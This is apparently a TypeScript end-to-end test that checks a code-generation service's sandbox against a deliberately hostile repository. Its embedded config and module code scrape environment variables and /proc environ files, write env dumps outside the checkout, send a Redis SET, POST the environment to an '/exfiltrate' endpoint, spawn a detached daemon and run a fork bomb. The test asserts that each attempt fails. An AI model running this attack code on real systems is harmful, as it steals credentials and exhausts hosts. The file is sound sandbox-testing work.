import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { planOutputSchema } from '@autocode/contracts';
import { RedisConnection } from '@autocode/state';
import { deleteNamespaceTopics, Mesh, npmLockfile, TEST_INFRA, TEST_MESH_SECRET, testNamespace, waitUntil } from '@autocode/testing';
import { OrchestratorApi, type TaskView } from './orchestrator-api';

/**
 * A hostile target repository, run through a real planner and a real
 * generation node: its eslint.config.js (which the planner's analysis and
 * lint-autofix load) and its src/hostile.js (which test-scaffold loads to
 * record behaviour) try, from their top-level code, everything an attacker
 * would — read the service's environment and every /proc/<pid>/environ,
 * write markers outside the checkout, SET a key in Redis, reach Kafka, the
 * REST gateway and an HTTP port of the test, leave a daemon behind, and
 * (the module) fork until the system says no.
 * The planner still finishes its analysis with the repository's own
 * configuration, the generator still runs, and none of it got out: no
 * marker, no Redis key, no request to the port, no daemon left, no secret
 * in any output.
 */
describe('a hostile target repository', () => {
  const namespace = testNamespace('hostile');
  const tag = randomBytes(6).toString('hex');
  const SECRET = `sk-hostile-${randomBytes(16).toString('hex')}`;
  const redisKey = `hostile-e2e:${namespace}:${tag}`;
  const daemonMarker = `hostile-daemon-${tag}`;
  const tmpMarker = (origin: string) => `/tmp/hostile-${origin}-${tag}`;
  let root: string;
  let repo: { path: string; commit: string };
  let mesh: Mesh;
  let api: OrchestratorApi;
  let redis: RedisConnection;
  let server: Server;
  let serverPort: number;
  const requests: string[] = [];

  /**
   * What each hostile entry point runs (synchronously, in a child process,
   * so nothing is cut short when the loading code moves on). It prints a
   * report of what it got; the entry points leave that report in their own
   * working tree, where it shows up in a generator's patch.
   */
  const attempts = (origin: string, targets: { outside: string; http: Array<[string, number]>; tcp: Array<[string, number]> }) => `
    const fs = require('node:fs');
    const net = require('node:net');
    const { spawn } = require('node:child_process');
    const report = { origin: ${JSON.stringify(origin)}, env: Object.keys(process.env), environs: [], writes: {}, tcp: {}, http: {} };
    for (const pid of fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p))) {
      try { const env = fs.readFileSync('/proc/' + pid + '/environ', 'utf8'); if (/REDIS_URL|MESH_SECRET|KAFKA_BROKERS|HOSTILE_E2E_SECRET/.test(env)) report.environs.push(pid + ': ' + env); } catch (e) {}
    }
    for (const target of ${JSON.stringify([targets.outside, tmpMarker(origin)])}) {
      try { fs.writeFileSync(target, JSON.stringify(process.env)); report.writes[target] = 'written'; } catch (e) { report.writes[target] = e.code; }
    }
    // A daemon: double fork and setsid, trying to reach out for as long as it lives.
    spawn(process.execPath, ['-e', ${JSON.stringify(`setInterval(() => { try { require('node:fs').writeFileSync(${JSON.stringify(targets.outside + '.daemon')}, 'alive'); } catch (e) {} }, 100)`)}, ${JSON.stringify(daemonMarker)}], { detached: true, stdio: 'ignore' }).unref();
    const resp = (parts) => parts.map((p) => '$' + Buffer.byteLength(p) + '\\r\\n' + p + '\\r\\n').join('');
    const tcp = (host, port, payload) => new Promise((done) => {
      const socket = net.connect({ host, port, timeout: 2000 });
      socket.on('connect', () => { if (payload) socket.write(payload); setTimeout(() => { socket.destroy(); done('connected'); }, 200); });
      socket.on('timeout', () => { socket.destroy(); done('timeout'); });
      socket.on('error', (e) => done(e.code));
    });
    const setKey = '*3\\r\\n' + resp(['SET', ${JSON.stringify(redisKey)}, ${JSON.stringify(origin)}]);
    (async () => {
      for (const [host, port] of ${JSON.stringify(targets.tcp)}) report.tcp[host + ':' + port] = await tcp(host, port, port === 6379 ? setKey : '');
      for (const [host, port] of ${JSON.stringify(targets.http)}) {
        report.http[host + ':' + port] = await fetch('http://' + host + ':' + port + '/exfiltrate', { method: 'POST', body: JSON.stringify(process.env), signal: AbortSignal.timeout(2000) }).then((r) => r.status, (e) => String(e.cause?.code ?? e.name));
      }
      if (${JSON.stringify(origin === 'module')}) report.fork = await forkBomb();
      console.log(JSON.stringify(report));
    })();
    // Children until the system says no (or 5000): the sandbox's process limit must say it first.
    function forkBomb() {
      return new Promise((done) => {
        let started = 0;
        const next = () => {
          const child = spawn('sleep', ['120'], { stdio: 'ignore' });
          child.on('spawn', () => { started += 1; if (started < 5000) next(); else done({ started, code: 'none' }); });
          child.on('error', (e) => done({ started, code: e.code }));
        };
        next();
      });
    }
  `;

  /**
   * Top-level code of an entry point: run the attempts, keep the report
   * beside it. Without a report it throws, so a configuration whose attempts
   * did not run cannot pass for one that ran (the planner would fall back
   * to its default configuration and say so).
   */
  const entryPoint = (origin: string, reportFile: string, targets: Parameters<typeof attempts>[1]) => `
const { spawnSync: hostileSpawn } = require('node:child_process');
const hostileRun = hostileSpawn(process.execPath, ['-e', ${JSON.stringify(attempts(origin, targets))}], { encoding: 'utf8', timeout: 20000 });
if (!hostileRun.stdout.startsWith('{"origin"')) throw new Error('the hostile attempts did not run: ' + hostileRun.stderr);
require('node:fs').writeFileSync(${JSON.stringify(reportFile)}, hostileRun.stdout);
`;

  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), 'autocode-hostile-'));
    server = createServer((request, response) => {
      requests.push(`${request.method} ${request.url}`);
      response.end('ok');
    });
    await new Promise<void>((done) => server.listen(0, '0.0.0.0', done));
    serverPort = (server.address() as AddressInfo).port;
    // No prefix: the key the hostile code would SET is absolute.
    redis = new RedisConnection({ url: TEST_INFRA.redisUrl, keyPrefix: '' });
    mesh = await Mesh.start({
      namespace,
      targetRepository: root,
      services: ['orchestrator', 'planner', 'generation-node'],
      env: {
        '*': { HOSTILE_E2E_SECRET: SECRET },
        orchestrator: { CYCLE_INTERVAL_MINUTES: '0', WATCH_GLOBS: '' },
        planner: { SANDBOX_MODE: 'bubblewrap' },
        'generation-node': { SANDBOX_MODE: 'bubblewrap', GENERATOR_TIME_LIMIT_MS: '120000' },
      },
    });
    api = new OrchestratorApi(mesh.orchestratorUrl);

    const hostAddress = execFileSync('hostname', ['-I'], { encoding: 'utf8' }).trim().split(/\s+/)[0] || '127.0.0.1';
    const gatewayPort = Number(new URL(mesh.orchestratorUrl).port);
    const targets = (name: string) => ({
      outside: join(root, `outside-${name}-marker`),
      http: [
        ['127.0.0.1', serverPort],
        [hostAddress, serverPort],
      ] as Array<[string, number]>,
      tcp: [
        ['127.0.0.1', 6379],
        ['127.0.0.1', 9092],
        ['127.0.0.1', gatewayPort],
        [hostAddress, serverPort],
      ] as Array<[string, number]>,
    });
    // It declares and locks its own ESLint: the mesh lints a repository only with the repository's own tools.
    const manifest = JSON.stringify({ name: 'hostile', version: '1.0.0', scripts: { test: 'node --test' }, devDependencies: { eslint: '9.39.5' } });
    repo = repository('hostile', {
      'package.json': manifest,
      'package-lock.json': await npmLockfile(manifest),
      // The planner loads it to lint; lint-autofix loads it to fix.
      'eslint.config.js': `${entryPoint('eslint', 'eslint-report.json', targets('eslint'))}\nmodule.exports = [{ files: ['**/*.js'], rules: { 'no-var': 'error' } }];\n`,
      // test-scaffold loads it to record what it does.
      'src/hostile.js': `${entryPoint('module', 'module-report.json', targets('module'))}\nfunction add(a, b) {\n  return a + b;\n}\nmodule.exports = { add };\n`,
      'src/index.js': 'var answer = 42;\nmodule.exports = { answer };\n',
    });

    await waitUntil('the planner and a generation node to announce their task types', async () => {
      const { body } = await api.get<{ items: Array<{ name: string }> }>('/api/task-types');
      return ['plan', 'generate'].every((name) => body.items.some((t) => t.name === name));
    });
  });

  afterAll(async () => {
    await mesh?.stop();
    await redis?.client.del(redisKey);
    await redis?.close();
    await new Promise((done) => server?.close(done));
    await deleteNamespaceTopics(TEST_INFRA.kafkaBrokers, namespace);
    rmSync(root, { recursive: true, force: true });
    for (const origin of ['eslint', 'module']) rmSync(tmpMarker(origin), { force: true });
  });

  function repository(name: string, files: Record<string, string>): { path: string; commit: string } {
    const path = join(root, name);
    for (const [file, content] of Object.entries(files)) {
      mkdirSync(dirname(join(path, file)), { recursive: true });
      writeFileSync(join(path, file), content);
    }
    const git = (...args: string[]) => execFileSync('git', ['-c', 'user.name=E2E', '-c', 'user.email=e2e@autocode.invalid', '-c', 'commit.gpgsign=false', ...args], { cwd: path, encoding: 'utf8' }).trim();
    git('init', '-q', '-b', 'main');
    git('add', '.');
    git('commit', '-q', '-m', name);
    return { path, commit: git('rev-parse', 'HEAD') };
  }

  const finished = async (task: TaskView) => {
    await api.waitForTaskState(task.id, ['COMPLETED', 'FAILED'], 180_000);
    return (await api.get<TaskView & { error: { message: string } | null }>(`/api/tasks/${task.id}`)).body;
  };

  /** Nothing the hostile code tried left a trace outside its sandbox. */
  async function expectNothingGotOut(): Promise<void> {
    expect(readdirSync(root).filter((entry) => entry.startsWith('outside-'))).toEqual([]);
    expect(existsSync(tmpMarker('eslint')) || existsSync(tmpMarker('module'))).toBe(false);
    expect(await redis.client.exists(redisKey)).toBe(0);
    expect(requests).toEqual([]);
    expect(pgrep(daemonMarker)).toEqual([]);
  }

  it('is analysed by the planner with its own ESLint configuration, and none of the configuration’s attempts gets out', async () => {
    const created = await api.createTask({ type: 'plan', params: { repository: repo.path, ref: 'HEAD', lookbackHours: 24, kinds: ['lint-finding'] } });
    const task = await finished(created);
    expect(task.state).toBe('COMPLETED');
    const output = planOutputSchema.parse(task.output);
    // The configuration ran to the end (its rule found the `var`), in the sandbox.
    expect(output.analyses?.find((a) => a.name === 'eslint')).toMatchObject({ status: 'ran', detail: expect.stringMatching(/with the repository's ESLint 9\.39\.5 with eslint\.config\.js$/) });
    expect(output.opportunities.map((o) => [o.kind, o.files])).toContainEqual(['lint-finding', ['src/index.js']]);
    await expectNothingGotOut();
    for (const secret of [SECRET, TEST_MESH_SECRET, TEST_INFRA.redisUrl]) expect(JSON.stringify(task)).not.toContain(secret);
  });

  it('has its module loaded by test-scaffold in the sandbox: the module reports every attempt failed, and none got out', async () => {
    const created = await api.createTask({
      type: 'generate',
      params: {
        repository: repo.path,
        commit: repo.commit,
        opportunity: { fingerprint: tag.padEnd(16, '0'), kind: 'untested-module', title: 'src/hostile.js has no tests', description: '', priority: 'LOW', files: ['src/hostile.js'], generator: 'test-scaffold' },
      },
      retry: { maxRetries: 0 },
    });
    const task = await finished(created);
    await expectNothingGotOut();
    for (const secret of [SECRET, TEST_MESH_SECRET, TEST_INFRA.redisUrl]) expect(JSON.stringify(task)).not.toContain(secret);

    // The module's own report, left in its working tree, is in the patch: it ran, and this is what it got.
    expect(task.state).toBe('COMPLETED');
    const diff = (task.output as { patch: { diff: string } }).patch.diff;
    const reportLine = diff.split('\n').find((line) => line.startsWith('+{"origin":"module"'));
    expect(reportLine).toBeDefined();
    const report = JSON.parse(reportLine!.slice(1)) as {
      env: string[];
      environs: string[];
      writes: Record<string, string>;
      tcp: Record<string, string>;
      http: Record<string, string>;
      fork: { started: number; code: string };
    };
    expect(report.env).not.toEqual(expect.arrayContaining(['REDIS_URL']));
    expect(report.env.filter((name) => /SECRET|REDIS|KAFKA|INFLUX|MESH/.test(name))).toEqual([]);
    expect(report.environs).toEqual([]);
    for (const outcome of Object.values(report.writes)) expect(outcome).toMatch(/^(EROFS|ENOENT|EACCES)$/);
    expect(Object.keys(report.tcp)).toHaveLength(4);
    for (const outcome of Object.values(report.tcp)) expect(outcome).not.toBe('connected');
    expect(Object.keys(report.http)).toHaveLength(2);
    for (const outcome of Object.values(report.http)) expect(outcome).not.toMatch(/^\d+$/);
    // The fork bomb hit the run's process limit (512 processes and threads, the runner's own included).
    expect(report.fork.code).toBe('EAGAIN');
    expect(report.fork.started).toBeLessThan(512);
  });
});

function pgrep(pattern: string): string[] {
  try {
    return execFileSync('pgrep', ['-f', pattern], { encoding: 'utf8' }).split('\n').filter(Boolean);
  } catch {
    return [];
  }
}
